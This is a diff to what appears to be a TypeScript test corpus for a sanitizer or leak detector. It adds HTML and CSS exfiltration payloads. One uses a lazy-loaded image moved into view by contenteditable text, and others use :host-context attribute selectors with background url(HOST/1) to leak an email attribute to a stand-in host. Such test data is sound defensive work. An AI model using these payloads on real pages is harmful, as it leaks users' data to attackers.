@@ -67,6 +67,13 @@ export const leaking: readonly LeakPayload[] = [
     "the attribute background",
     "<input>",
   ],
+  // Text that grows moves the image into view, without a style sheet.
+  [
+    `<div style="overflow: clip; font-size: 60px"><div style="display: inline-block; position: relative"><span contenteditable>.</span><img loading="lazy" src="HOST/1" width="20" height="20" style="position: absolute; left: calc(100% - 45px)"></div></div>`,
+    "",
+    "the attribute loading",
+    "contenteditable",
+  ],
   [
     `${field}<svg><rect fill="url(HOST/1#a)" width="9" height="9" /></svg>`,
     `input:invalid + svg { display: none }`,
@@ -119,6 +126,13 @@ export const suspected: readonly LeakPayload[] = [
   [
     `<p>x</p>`,
     `:host-context([data-email^=a]) p { background: url(HOST/1) }`,
+    "url(",
+    ":host-context()",
+  ],
+  // The close button is there without any HTML.
+  [
+    "",
+    `:host-context([data-email^=a]) button { background: url(HOST/1) }`,
     "url(",
     ":host-context()",
   ],
